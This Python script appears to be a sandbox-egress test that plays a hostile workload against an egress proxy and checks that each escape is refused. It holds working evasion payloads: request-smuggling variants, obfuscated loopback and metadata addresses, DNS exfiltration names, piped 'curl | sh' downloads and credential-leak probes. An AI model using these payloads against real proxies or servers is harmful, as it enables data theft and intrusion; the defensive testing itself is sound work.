"""A hostile workload with a way out: tries to go past its contract through it.

    egress.py way-out      try everything once
    egress.py neighbour    be there meanwhile, in a sandbox of its own

The second argument and the list that is printed are those of inside.py. What
must be refused carries the mark "never/WORD": no server of the drill may see one.
"""
import base64, glob, json, os, re, socket, ssl, stat, struct, subprocess, urllib.error, urllib.request

from inside import attempt, dial, files_below, given, has_secret, main, need, planted, section, show, small

ports = given["ports"]
HTTP, TLS, LINE, SINK = ports["http"], ports["tls"], ports["line"], ports["sink"]
PROXY = ("127.0.0.1", 3128)
SOCKET = "/run/countersign/egress.sock"
SECONDS = 20  # for one answer


# -- speaking

def request(host, path, method="GET", fields="", body=b"", target=None):
    head = "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n" % (method, target or path, host, fields)
    return head.encode("latin-1") + body


def talk(connection, data, end=False):
    """Sends, and returns what comes until the other side ends."""
    connection.settimeout(SECONDS)
    answer = b""
    try:
        connection.sendall(data)
        if end:
            connection.shutdown(socket.SHUT_WR)
    except OSError:
        pass  # it may have answered and closed before it read all
    try:
        while len(answer) < 1 << 20:
            piece = connection.recv(1 << 16)
            if not piece:
                break
            answer += piece
    except OSError:
        pass
    return answer


def plain(host, port, data):
    """As a program that knows of no proxy does."""
    with socket.create_connection((host, port), SECONDS) as s:
        return talk(s, data)


def proxied(data):
    with socket.create_connection(PROXY, SECONDS) as s:
        return talk(s, data)


def connect(authority):
    return ("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority, authority)).encode("latin-1")


def answered(answer, want=b"drill"):
    """The server's own words came back."""
    if not answer.startswith((b"HTTP/1.1 200", b"HTTP/1.0 200")) or want not in answer:
        raise OSError("no answer of the server: %r" % answer[:200])


# -- being refused

def refused(answer, status, because):
    """What must come back: the status, and a sentence with the reason."""
    if answer.startswith(b"HTTP/1.1 %d " % status) and b"\r\n\r\ncountersign: " in answer and because.encode() in answer:
        raise OSError("refused with %d" % status)
    return "ok: not refused for that reason: %r" % answer[:300]


def ended(answer):
    """For what cannot be answered in its own words: nothing came back."""
    if not answer:
        raise OSError("closed")
    return "ok: answered: %r" % answer[:200]


def handshake(host, port, name, context=None, data=b""):
    """TLS to a host under any name; returns the answer to data."""
    context = context or trusting()
    with socket.create_connection((host, port), SECONDS) as s:
        with context.wrap_socket(s, server_hostname=name) as t:
            return talk(t, data) if data else b""


def trusting(protocols=()):
    """A client that trusts the drill's servers and checks no name: that is the
    proxy's to notice."""
    context = ssl.create_default_context(cadata=given["ca"])
    context.check_hostname = False
    if protocols:
        context.set_alpn_protocols(protocols)
    return context


def alert(do):
    """The refusal that TLS has."""
    try:
        do()
    except OSError as e:
        if "ACCESS_DENIED" in (getattr(e, "reason", None) or ""):
            raise OSError("alert access_denied")
        return "ok: another end: %r" % e
    return "ok: it was let through"


def alerted(answer):
    """The same, in bytes."""
    if answer == b"\x15\x03\x03\x00\x02\x02\x31":
        raise OSError("alert access_denied")
    return "ok: another answer: %r" % answer[:100]


NOT_LISTED = "is not in this run's contract"


# -- what the contract gives

def gives():
    section("the way out that the contract gives")
    attempt("may reach a listed host with no proxy setting", lambda: answered(plain("listed.drill.test", HTTP, request("listed.drill.test:%d" % HTTP, "/"))))
    attempt("may reach one under a star", lambda: answered(plain("one.wild.drill.test", HTTP, request("one.wild.drill.test:%d" % HTTP, "/"))))
    attempt("may reach it by the explicit proxy", lambda: answered(proxied(request("listed.drill.test:%d" % HTTP, "", target="http://listed.drill.test:%d/" % HTTP))))
    attempt("may reach it by an explicit tunnel", lambda: need(b"drill" in tunnelled("listed.drill.test:%d" % HTTP, request("listed.drill.test:%d" % HTTP, "/"))))
    attempt("may speak TLS to a listed host", lambda: answered(handshake("secure.drill.test", TLS, "secure.drill.test", data=request("secure.drill.test:%d" % TLS, "/"))))
    attempt("may send a ClientHello in pieces", lambda: need(b"\x16\x03" in hello_in_pieces("secure.drill.test", "secure.drill.test")[:3]))
    attempt("may speak where the server speaks first", lambda: need(line("line.drill.test", "hello") == "250 hello"))
    attempt("may use a gateway", lambda: answered(plain("api.internal", 80, request("api.internal", "/v1/hello?a=b&c=%00"))))
    attempt("may use an inspected host", lambda: answered(handshake("inspected.drill.test", TLS, "inspected.drill.test", ssl.create_default_context(), request("inspected.drill.test:%d" % TLS, "/v1/hello"))))
    attempt("may use an inspected host over HTTP/2", http2)
    attempt("may use curl", lambda: need(run("curl", "-fsS", "http://listed.drill.test:%d/" % HTTP) == b"drill\n"))
    attempt("may use curl with TLS", lambda: need(run("curl", "-fsS", "https://inspected.drill.test:%d/v1/hello" % TLS) == b"drill\n"))
    attempt("may use Python", lambda: need(urllib.request.urlopen("http://listed.drill.test:%d/" % HTTP, timeout=SECONDS).read() == b"drill\n"))


def tunnelled(authority, data):
    with socket.create_connection(PROXY, SECONDS) as s:
        s.settimeout(SECONDS)
        s.sendall(connect(authority))
        head = b""
        while b"\r\n\r\n" not in head:
            piece = s.recv(1)
            if not piece:
                return head
            head += piece
        if not head.startswith(b"HTTP/1.1 200 "):
            return head + talk(s, b"")
        return talk(s, data)


def line(host, *words):
    with socket.create_connection((host, LINE), SECONDS) as s:
        s.settimeout(180)
        f = s.makefile("rw")
        need(f.readline() == "220 drill\n")
        for word in words:
            f.write(word + "\n")
            f.flush()
            answer = f.readline().strip()
        return answer


def run(*argv):
    return subprocess.run(argv, capture_output=True, timeout=60, stdin=subprocess.DEVNULL, cwd="/tmp").stdout


def http2():
    need(run("curl", "-fsS", "--http2", "-o", "-", "https://inspected.drill.test:%d/v1/protocol" % TLS) == b"HTTP/2.0")


def hello(name):
    """The bytes of a ClientHello."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = trusting().wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def hello_in_pieces(host, name):
    """A ClientHello in records of 40 bytes, sent in segments of 7."""
    message = hello(name)[5:]
    records = b"".join(b"\x16\x03\x01" + struct.pack(">H", len(p)) + p for p in (message[i:i + 40] for i in range(0, len(message), 40)))
    with socket.create_connection((host, TLS), SECONDS) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.settimeout(SECONDS)
        for i in range(0, len(records), 7):
            s.sendall(records[i:i + 7])
        return s.recv(1 << 16)


# -- hosts and ports

def hosts():
    section("unlisted host")
    path = "/never/unlisted"
    for host, port in (("unlisted.drill.test", 80), ("unlisted.drill.test", HTTP), ("drill.test", 80), ("listed.drill.test.drill.example", 80),
                       ("xlisted.drill.test", HTTP), ("two.one.wild.drill.test", HTTP), ("wild.drill.test", HTTP), ("xn--listed-9za.drill.test", HTTP),
                       ("listed.drill.test", 80), ("listed.drill.test", 8080), ("listed.drill.test", TLS), ("localhost.drill.test", 80), ("canary.internal", 8080)):
        name = "%s:%d" % (host, port)
        attempt("no " + name, lambda: refused(plain(host, port, request(name, path)), 403, NOT_LISTED))
        attempt("no %s by the explicit proxy" % name, lambda: refused(proxied(request(name, "", target="http://%s%s" % (name, path))), 403, NOT_LISTED))
        attempt("no tunnel to " + name, lambda: refused(proxied(connect(name)), 403, NOT_LISTED))
    for host, port in (("unlisted.drill.test", 443), ("unlisted.drill.test", TLS), ("listed.drill.test", 443)):
        attempt("no TLS to %s:%d" % (host, port), lambda: alert(lambda: handshake(host, port, host)))
    attempt("no server of an unlisted host that speaks first", lambda: ended(plain("unlisted.drill.test", 22, b"")))
    attempt("no port that nobody named", lambda: dial(socket.AF_INET, socket.SOCK_STREAM, ("listed.drill.test", 4444)))


def addresses():
    section("private address by name")
    path = "/never/private"
    for host in ("inner.drill.test", "mapped.drill.test"):
        name = "%s:%d" % (host, HTTP)
        attempt("no " + name, lambda: refused(plain(host, HTTP, request(name, path)), 403, "needs a rule with private: true"))
        attempt("no tunnel to " + name, lambda: refused(proxied(connect(name)), 403, "needs a rule with private: true"))

    section("metadata and this machine by name")
    path = "/never/metadata"
    for host in ("metadata", "metadata6", "embedded", "zero"):
        name = "%s.drill.test:%d" % (host, HTTP)
        attempt("no " + name, lambda: refused(plain(host + ".drill.test", HTTP, request(name, path)), 403, "is allowed by no rule"))
        attempt("no tunnel to " + name, lambda: refused(proxied(connect(name)), 403, "is allowed by no rule"))

    section("an answer that changes")
    name = "rebind.drill.test:%d" % HTTP
    attempt("may reach what was harmless", lambda: answered(plain("rebind.drill.test", HTTP, request(name, "/"))))
    attempt("no host whose address became another", lambda: refused(plain("rebind.drill.test", HTTP, request(name, "/never/rebound")), 403, "is allowed by no rule"))

    section("addresses in every spelling")
    spelled = ("127.0.0.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "127.1", "127.0.0.1.", "0", "0.0.0.0", "169.254.169.254", "2852039166", "0xA9FEA9FE",
               "0251.0376.0251.0376", "169.254.43518", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1%25lo]",
               "::1", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "1.1.1.1", "listed.drill.test@127.0.0.1", "127.0.0.1%00.listed.drill.test")
    for address in spelled:
        name = "%s:%d" % (address, HTTP)
        attempt("no tunnel to " + name, lambda: refused(proxied(connect(name)), 403, "is refused (the name"))
        attempt("no request to " + name, lambda: refused(proxied(request(name, "", target="http://%s/never/address" % name)), 403, "is refused (the name"))
    for address in ("127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0.0.0.0", "10.0.0.1", "172.17.0.1", "192.0.2.1", "169.254.169.254", "2852039166", "127.99.99.99"):
        attempt("no tcp to %s" % address, lambda: dial(socket.AF_INET, socket.SOCK_STREAM, (address, HTTP)))
    for address in ("::1", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "fd00:ec2::254", "fe80::1", "64:ff9b::a9fe:a9fe", "2001:db8::1"):
        attempt("no tcp to [%s]" % address, lambda: dial(socket.AF_INET6, socket.SOCK_STREAM, (address, HTTP)))


# -- one name

def names():
    section("one name: tunnel, server name, Host")
    attempt("no TLS under another listed name", lambda: alert(lambda: handshake("secure.drill.test", TLS, "listed.drill.test")))
    attempt("no TLS under an unlisted name", lambda: alert(lambda: handshake("secure.drill.test", TLS, "unlisted.drill.test")))
    attempt("no TLS without a name", lambda: alert(lambda: handshake("secure.drill.test", TLS, None)))
    attempt("no TLS under another name, in pieces", lambda: alerted(hello_in_pieces("secure.drill.test", "unlisted.drill.test")))
    attempt("no inspected TLS under another name", lambda: alert(lambda: handshake("inspected.drill.test", TLS, "secure.drill.test")))
    good = request("listed.drill.test:%d" % HTTP, "/").replace(b"Connection: close\r\n", b"")
    for host in ("unlisted.drill.test", "secure.drill.test", "listed.drill.test:1", "127.0.0.1", ""):
        bad = request(host, "/never/name")
        attempt("no Host %r" % host, lambda: not_answered(plain("listed.drill.test", HTTP, bad)))
        attempt("no Host %r on a later request" % host, lambda: not_answered(later(good, bad)))
    attempt("no Host of its own in absolute form", lambda: not_answered(proxied(request("unlisted.drill.test", "", target="http://listed.drill.test:%d/never/name" % HTTP))))
    attempt("no other target in a tunnel", lambda: not_answered(plain("listed.drill.test", HTTP, request("listed.drill.test", "", target="http://unlisted.drill.test/never/name"))))
    secure = request("inspected.drill.test:%d" % TLS, "/v1/").replace(b"Connection: close\r\n", b"")
    attempt("no Host of its own in inspected TLS", lambda: not_answered(handshake("inspected.drill.test", TLS, "inspected.drill.test", insecure(), request("secure.drill.test", "/v1/never/name"))))
    attempt("no Host of its own in inspected TLS, on a later request", lambda: not_answered(after_first(handshake("inspected.drill.test", TLS, "inspected.drill.test", insecure(), secure + request("secure.drill.test", "/v1/never/name")))))
    attempt("no :authority of its own", lambda: not_answered(run("curl", "-sSi", "--http2", "-H", "Host: secure.drill.test", "https://inspected.drill.test:%d/v1/never/name" % TLS)))


def insecure():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def later(good, bad):
    """The answer to a second request on a connection."""
    with socket.create_connection(("listed.drill.test", HTTP), SECONDS) as s:
        s.settimeout(SECONDS)
        s.sendall(good)
        first = b""
        while b"drill\n" not in first:
            piece = s.recv(1 << 16)
            need(piece)
            first += piece
        return talk(s, bad)


def after_first(answer):
    """What came behind the first answer on a connection."""
    first, found, rest = answer.partition(b"drill\n")
    need(found)
    return rest[max(0, rest.find(b"HTTP/1.1 ")):]


def not_answered(answer):
    """A refusal in whatever words HTTP has for it, with the sentence."""
    status = re.match(rb"HTTP/(?:1\.1|2) (400|403|421|501) ", answer)
    if status and b"countersign: " in answer:
        raise OSError("refused with %s" % status[1].decode())
    return "ok: not refused: %r" % answer[:300]


# -- requests

def smuggled():
    """Requests that two parsers could read in two ways, each with another one in it."""
    host = "Host: listed.drill.test:%d\r\n" % HTTP
    inner = "GET /never/smuggled HTTP/1.1\r\n" + host + "\r\n"
    chunk = "0\r\n\r\n" + inner
    post = "POST /never/smuggled HTTP/1.1\r\n" + host
    upload = "POST /upload HTTP/1.1\r\n" + host
    get = "GET /never/smuggled HTTP/1.1\r\n" + host
    return {
        "both a length and chunks": post + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk,
        "two lengths": post + "Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner,
        "two equal lengths": post + "Content-Length: 0\r\nContent-Length: 0\r\n\r\n" + inner,
        "a list of lengths": post + "Content-Length: 0, %d\r\n\r\n" % len(inner) + inner,
        "a signed length": post + "Content-Length: +0\r\n\r\n" + inner,
        "a hexadecimal length": post + "Content-Length: 0x0\r\n\r\n" + inner,
        "a length beyond all numbers": post + "Content-Length: 99999999999999999999\r\n\r\n" + inner,
        "another coding": post + "Transfer-Encoding: xchunked\r\n\r\n" + chunk,
        "two codings": post + "Transfer-Encoding: gzip, chunked\r\n\r\n" + chunk,
        "chunked in capitals and space": post + "Transfer-Encoding: \tChunked\x0b\r\n\r\n" + chunk,
        "two fields of codings": post + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n" + chunk,
        "chunks in HTTP/1.0": post.replace("1.1", "1.0") + "Transfer-Encoding: chunked\r\n\r\n" + chunk,
        "a folded field": get + "X-A: b\r\n Transfer-Encoding: chunked\r\n\r\n",
        "a bare line feed": get + "X-A: b\nX-B: c\r\n\r\n",
        "a bare carriage return": get + "X-A: b\rX-B: c\r\n\r\n",
        "a NUL": get + "X-A: b\0c\r\n\r\n",
        "space before the colon": get + "Content-Length : 4\r\n\r\n" + inner,
        "a name that is none": get + "X A: b\r\n\r\n",
        "no name": get + ": b\r\n\r\n",
        "no colon": get + "Transfer-Encoding\r\n\r\n",
        "two hosts": get + "Host: unlisted.drill.test\r\n\r\n",
        "two equal hosts": get + host + "\r\n",
        "no host": "GET /never/smuggled HTTP/1.1\r\n\r\n",
        "two spaces": "GET  /never/smuggled HTTP/1.1\r\n" + host + "\r\n",
        "a tab in the request line": "GET\t/never/smuggled HTTP/1.1\r\n" + host + "\r\n",
        "a version of its own": "GET /never/smuggled HTTP/1.2\r\n" + host + "\r\n",
        "no version": "GET /never/smuggled\r\n\r\n",
        "a method in lower case": "get /never/smuggled HTTP/1.1\r\n" + host + "\r\n",
        "a fragment": "GET /never/smuggled#x HTTP/1.1\r\n" + host + "\r\n",
        "a byte beyond ASCII": "GET /never/smuggled\xe9 HTTP/1.1\r\n" + host + "\r\n",
        "user information": "GET http://listed.drill.test:%d@unlisted.drill.test/never/smuggled HTTP/1.1\r\n" % HTTP + host + "\r\n",
        "another scheme": "GET ftp://listed.drill.test:%d/never/smuggled HTTP/1.1\r\n" % HTTP + host + "\r\n",
        "an empty authority": "GET http:///never/smuggled HTTP/1.1\r\n" + host + "\r\n",
        # Bodies stream: the head of these two goes out, what is in them must not.
        "a bad size of a chunk": upload + "Transfer-Encoding: chunked\r\n\r\n0x1\r\na\r\n" + chunk,
        "a negative size of a chunk": upload + "Transfer-Encoding: chunked\r\n\r\n-1\r\na\r\n" + chunk,
        "300 fields": get + "X-A: b\r\n" * 300 + "\r\n",
        "a head of 80 KiB": get + "X-A: " + "b" * (80 << 10) + "\r\n\r\n",
    }


def malformed():
    section("requests that parsers disagree on")
    for what, text in smuggled().items():
        data = text.encode("latin-1")
        attempt("no request with " + what, lambda: unread(plain("listed.drill.test", HTTP, data)))
        if "HTTP/1.1\r\nHost" in text:
            forward = data.replace(b" /", b" http://listed.drill.test:%d/" % HTTP, 1)
            attempt("no request with %s to the explicit proxy" % what, lambda: unread(proxied(forward)))
    host = "api.internal"
    for what in ("both a length and chunks", "two lengths", "a folded field", "space before the colon", "two equal hosts"):
        data = smuggled()[what].replace("listed.drill.test:%d" % HTTP, host).replace(" /never", " /v1/never").encode("latin-1")
        attempt("no request with %s to a gateway" % what, lambda: unread(plain(host, 80, data)))


def unread(answer):
    """Refused, and the connection ended: nothing after it was read as a request."""
    if not re.match(rb"HTTP/1\.1 (400|403|501|503) ", answer) or b"countersign: " not in answer:
        return "ok: not refused: %r" % answer[:300]
    if len(re.findall(rb"HTTP/1\.1 \d\d\d ", answer)) != 1:
        return "ok: something after it was answered: %r" % answer[:600]
    raise OSError("refused with %s" % answer[9:12].decode())


def protocols():
    section("other protocols")
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0never/protocol"
    attempt("no HTTP/2 without TLS", lambda: not_answered(plain("listed.drill.test", HTTP, preface)))
    attempt("no HTTP/2 without TLS to the explicit proxy", lambda: not_answered(proxied(preface)))
    name = "listed.drill.test:%d" % HTTP
    for what, fields in (("h2c", "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"), ("TLS", "Upgrade: TLS/1.0\r\n"), ("a protocol of its own", "Upgrade: drill/1\r\n")):
        text = request(name, "/never/protocol", fields=fields).replace(b"Connection: close", b"Connection: Upgrade")
        attempt("no upgrade to " + what, lambda: not_answered(plain("listed.drill.test", HTTP, text)))
    attempt("no upgrade to WebSocket where no rule says so", lambda: not_answered(plain("api.internal", 80, request("api.internal", "/v1/never/protocol",
            fields="Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n").replace(b"Connection: close", b"Connection: Upgrade, close"))))
    for method, target in (("CONNECT", "unlisted.drill.test:443"), ("TRACE", "/never/protocol")):
        attempt("no %s in a tunnel" % method, lambda: not_answered(plain("listed.drill.test", HTTP, request(name, "", method=method, target=target))))
    attempt("no TLS to a gateway", lambda: alert(lambda: handshake("api.internal", 80, "api.internal")))
    attempt("no bytes of its own to a gateway", lambda: ended(plain("api.internal", 80, b"\x00\x01\x02never/protocol\n")))
    attempt("no bytes of its own to an inspected host", lambda: ended(plain("inspected.drill.test", TLS, b"\x00\x01\x02never/protocol\n")))
    attempt("no ClientHello in the form of SSL 2", lambda: alerted(plain("secure.drill.test", TLS, b"\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10" + b"\x00\x00\x2f" * 7 + b"x" * 16)))


def rules():
    section("requests outside a rule")
    for what, method, path in (
        ("another path", "GET", "/v2/never/rule"), ("a path beside it", "GET", "/v1x/never/rule"), ("another method", "DELETE", "/v1/never/rule"),
        ("dot segments", "GET", "/v1/../never/rule"), ("encoded dots", "GET", "/v1/%2e%2e/never/rule"), ("twice encoded dots", "GET", "/v1/%252e%252e/never/rule"),
        ("dots behind an encoded slash", "GET", "/v1/..%2fnever/rule"), ("a backslash", "GET", "/v1/..\\never/rule"), ("an encoded backslash", "GET", "/v1/..%5cnever/rule"),
        ("parameters behind dots", "GET", "/v1/..;x/never/rule"), ("an empty segment", "GET", "//v1/never/rule"), ("an encoded NUL", "GET", "/v1/%00never/rule"),
        ("half an escape", "GET", "/v1/never/rule%2"), ("no UTF-8", "GET", "/v1/never/rule%ff"), ("an asterisk", "OPTIONS", "*"),
    ):
        attempt("no request with " + what, lambda: not_answered(plain("api.internal", 80, request("api.internal", path, method=method))))
        attempt("no request with %s to an inspected host" % what, lambda: not_answered(handshake("inspected.drill.test", TLS, "inspected.drill.test", insecure(), request("inspected.drill.test", path, method=method))))


# -- amounts

def budgets():
    section("upload budget")
    attempt("no more than %d bytes in a tunnel" % given["sink_bytes"], pour)
    attempt("no more of them in another tunnel", pour)
    body = b"x" * (1 << 20)
    for host, port in (("small.drill.test", HTTP), ("slender.internal", 80)):
        name = host if port == 80 else "%s:%d" % (host, port)
        attempt("may send little to " + host, lambda: answered(plain(host, port, request(name, "/v1/upload", "POST", "Content-Length: 100\r\n", b"x" * 100))))
        attempt("no more than %d bytes to %s" % (given["small_bytes"], host), lambda: answered(plain(host, port, request(name, "/v1/upload", "POST", "Content-Length: %d\r\n" % len(body), body))))
        chunks = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
        attempt("no more of them in chunks to " + host, lambda: answered(plain(host, port, request(name, "/v1/upload", "POST", "Transfer-Encoding: chunked\r\n", chunks))))
        attempt("no more of them in a field to " + host, lambda: answered(plain(host, port, request(name, "/v1/upload", fields="X-Data: %s\r\n" % ("x" * 40000)))))


def pour():
    """Sends a megabyte; a server that was sent it all says so."""
    with socket.create_connection(("sink.drill.test", SINK), SECONDS) as s:
        return ended(talk(s, b"\0" * (4 << 20), end=True))


# -- names that carry data

def lookups():
    section("look-ups leave nothing")
    for name in ("never-data.drill.test", "6e657665722f64617461.exfil.drill.test", "a" * 63 + "." + "b" * 63 + ".drill.test", "unlisted.drill.test"):
        attempt("may look up %s, which is answered inside" % name[:40], lambda: need(socket.gethostbyname(name).startswith("127.")))
    for kind, number in (("TXT", 16), ("MX", 15), ("AAAA", 28), ("SRV", 33), ("HTTPS", 65), ("ANY", 255), ("NULL", 10)):
        attempt("no answer of type " + kind, lambda: need(records(b"txt.exfil.drill.test", number)))
    attempt("no answer over a stream", lambda: need(records(b"stream.exfil.drill.test", 16, stream=True)))
    for name in (b"bad name.drill.test", b"nul\0.drill.test", b"\xff.drill.test", b"127.0.0.1", b"-x.drill.test", b"0x7f.1"):
        attempt("no answer to the name %r" % name, lambda: need(records(name, 1)))
    for server in ("8.8.8.8", "172.17.0.1", "169.254.169.253", "127.0.0.11"):
        attempt("no name server " + server, lambda: dial(socket.AF_INET, socket.SOCK_STREAM, (server, 53)))


def records(name, kind, stream=False):
    """How many records of an answer there are."""
    labels = b"".join(bytes([len(l)]) + l for l in name.split(b"."))
    query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM) as s:
        s.settimeout(SECONDS)
        s.connect(("127.0.0.1", 53))
        s.sendall(struct.pack(">H", len(query)) + query if stream else query)
        answer = s.recv(2048)[2 if stream else 0:]
        return struct.unpack(">H", answer[6:8])[0]


# -- what comes back

def redirects():
    section("redirect to an unlisted host")
    url = "http://listed.drill.test:%d/redirect" % HTTP
    attempt("may see the redirect", lambda: need(b"302" in run("curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", url)))
    attempt("no redirect that curl follows", lambda: refused(run("curl", "-sSiL", url).split(b"\r\n\r\n", 1)[1], 403, NOT_LISTED))
    attempt("no redirect that Python follows", lambda: followed(url))


def followed(url):
    try:
        return "ok: answered: %r" % urllib.request.urlopen(url, timeout=SECONDS).read()[:100]
    except urllib.error.HTTPError as e:
        return refused(b"HTTP/1.1 %d x\r\n\r\n%s" % (e.code, e.read()), 403, NOT_LISTED)


def download():
    section("piped download from an unlisted host")
    mark = "/tmp/drill-download-ran"
    for url in ("http://unlisted.drill.test/never/script", "https://unlisted.drill.test/never/script", "http://unlisted.drill.test:%d/never/script" % HTTP,
                "http://listed.drill.test/never/script", "https://user:word@unlisted.drill.test/never/script"):
        for flags in ("-fsSL", "-sSL"):  # the second one pipes the refusal itself
            attempt("no curl %s %s | sh" % (flags, url), lambda: piped("curl %s --max-time 20 \"$0\" | sh" % flags, url, mark))
    attempt("no python | sh", lambda: piped("python3 -c 'import sys, urllib.request as u; sys.stdout.buffer.write(u.urlopen(sys.argv[1], timeout=20).read())' \"$0\" | sh", "http://unlisted.drill.test/never/script", mark))
    attempt("no git clone", lambda: need(subprocess.run(["git", "ls-remote", "https://unlisted.drill.test/never/script.git"], capture_output=True, timeout=60).returncode == 0))
    attempt("no download by node", lambda: need(subprocess.run(["node", "-e", "fetch('http://unlisted.drill.test/never/script').then(r => process.exit(r.ok ? 0 : 1), () => process.exit(1))"], capture_output=True, timeout=60).returncode == 0))
    # From a host that the contract lists it works, so the above were refused.
    attempt("may pipe a download from a listed host", lambda: piped("curl -fsSL \"$0\" | sh", "http://listed.drill.test:%d/script" % HTTP, mark))


def piped(text, url, mark):
    if os.path.exists(mark):
        os.remove(mark)
    subprocess.run(["sh", "-c", text, url], capture_output=True, timeout=60, stdin=subprocess.DEVNULL, cwd="/tmp")
    need(os.path.exists(mark))


# -- the proxy itself

def control():
    section("the proxy's socket")
    for what, data in (
        ("a request for a path", b"GET /rules HTTP/1.1\r\nHost: x\r\n\r\n"), ("a request for all", b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n"),
        ("a change", b"PUT /rules HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2\r\n\r\n[]"), ("an engine's request", b"GET /v1.41/containers/json HTTP/1.1\r\nHost: docker\r\n\r\n"),
        ("its own address", b"GET http://127.0.0.1:3128/ HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n"), ("localhost", b"CONNECT localhost:3128 HTTP/1.1\r\nHost: localhost:3128\r\n\r\n"),
    ):
        attempt("no answer to " + what, lambda: not_answered(unix(data)))
        attempt("no answer to %s by the explicit proxy" % what, lambda: not_answered(proxied(data)))
    for what, data in (("a message of the control connection", b"\x00\x00\x00\x10n{\"ports\":[1]}   \r\n\r\n"), ("JSON", b'{"kind":"replace","allow":[]}\r\n\r\n')):
        attempt("no answer to " + what, lambda: not_answered(unix(data)))
    attempt("no other socket beside it", lambda: need(set(os.listdir("/run/countersign")) - {"egress.sock", "control.sock", "ask.sock"}))
    attempt("no removing of it", lambda: os.remove(SOCKET))
    attempt("may reach a listed host by it", lambda: answered(unix(request("listed.drill.test:%d" % HTTP, "", target="http://listed.drill.test:%d/" % HTTP))))


def unix(data, path=SOCKET):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(SECONDS)
        s.connect(path)
        return talk(s, data)


# -- secrets

def credentials():
    section("injected credential")
    ask = request("api.internal", "/v1/echo", "POST", "Authorization: Bearer never/credential\r\nX-Drill-Key: never/credential\r\nCookie: a=never/credential\r\nContent-Length: 5\r\n", b"hello")
    attempt("may have it used", lambda: answered(plain("api.internal", 80, ask), b"hello"))
    attempt("no echo of it", lambda: echoed(plain("api.internal", 80, ask)))
    attempt("no sending of it to a server that does not prove its name", lambda: unproved(plain("forged.internal", 80, request("forged.internal", "/v1/never/credential"))))
    inspected = request("inspected.drill.test:%d" % TLS, "/v1/echo", "POST", "X-Drill-Key: never/credential\r\nContent-Length: 5\r\n", b"hello")
    attempt("may have it used at an inspected host", lambda: answered(handshake("inspected.drill.test", TLS, "inspected.drill.test", insecure(), inspected), b"hello"))
    attempt("no echo of it from an inspected host", lambda: echoed(handshake("inspected.drill.test", TLS, "inspected.drill.test", insecure(), inspected)))
    attempt("no echo of it over HTTP/2", lambda: echoed(run("curl", "-sSi", "--http2", "https://inspected.drill.test:%d/v1/echo" % TLS)))
    attempt("no echo of a part of it", lambda: echoed(plain("api.internal", 80, request("api.internal", "/v1/echo", fields="Range: bytes=0-40\r\nAccept-Encoding: gzip\r\n"))))
    attempt("no variable with it", lambda: need([k for k, v in os.environ.items() if planted.search(v.encode()) or k == "DRILL_KEY"]))
    attempt("no environment with it", lambda: need([p for p in glob.glob("/proc/[0-9]*/environ") if has_secret(p)]))
    attempt("no command line with it", lambda: need([p for p in glob.glob("/proc/[0-9]*/cmdline") if has_secret(p)]))
    attempt("no file with it", lambda: need([p for p in files_below(("/workspace", "/tmp", "/home", "/etc", "/run", "/dev/shm", "/var", "/countersign")) if small(p) and has_secret(p) and p != "/run/secret/drill-file"]))
    attempt("no file of that name", lambda: need(set(os.listdir("/run/secret")) != {"drill-file"}))
    attempt("no key of the authority", lambda: need([p for p in files_below(("/home", "/run", "/tmp", "/etc/ssl")) if small(p) and b"PRIVATE KEY" in open(p, "rb").read()]))


def unproved(answer):
    if re.match(rb"HTTP/1\.1 (403|502) ", answer) and b"countersign: forged.internal:80 " in answer:
        raise OSError("refused with %s" % answer[9:12].decode())
    return "ok: not refused: %r" % answer[:300]


def echoed(answer):
    """No credential is in an answer, in any spelling that programs make of it."""
    if not answer:
        return "ok: there was no answer"
    if planted.search(answer) or re.search(rb"ZHJpbGwtc2VjcmV0L|6472696c6c2d736563726574", answer):
        return "ok: it came back"
    raise OSError("not shown")


def secret_file():
    section("secret file")
    path = "/run/secret/drill-file"
    attempt("may read it", lambda: need(has_secret(path)))
    attempt("no other mode than 0400", lambda: need(stat.S_IMODE(os.stat(path).st_mode) != 0o400))
    attempt("no other owner", lambda: need(os.stat(path).st_uid != os.getuid()))
    attempt("no disk below it", lambda: need([l for l in open("/proc/self/mounts") if l.split()[1] == "/run/secret" and l.split()[2] != "tmpfs"] or not os.path.ismount("/run/secret")))
    attempt("no writing of it", lambda: open(path, "ab"))
    # Masked in the output in each spelling, also when it comes in pieces.
    value = open(path, "rb").read()
    spelled = (value, base64.b64encode(value), value.hex().encode(), value.hex().upper().encode(), base64.b64encode(b"x" + value))
    for text in spelled:
        print("secret:", text.decode(), flush=True)
        for byte in text.decode():
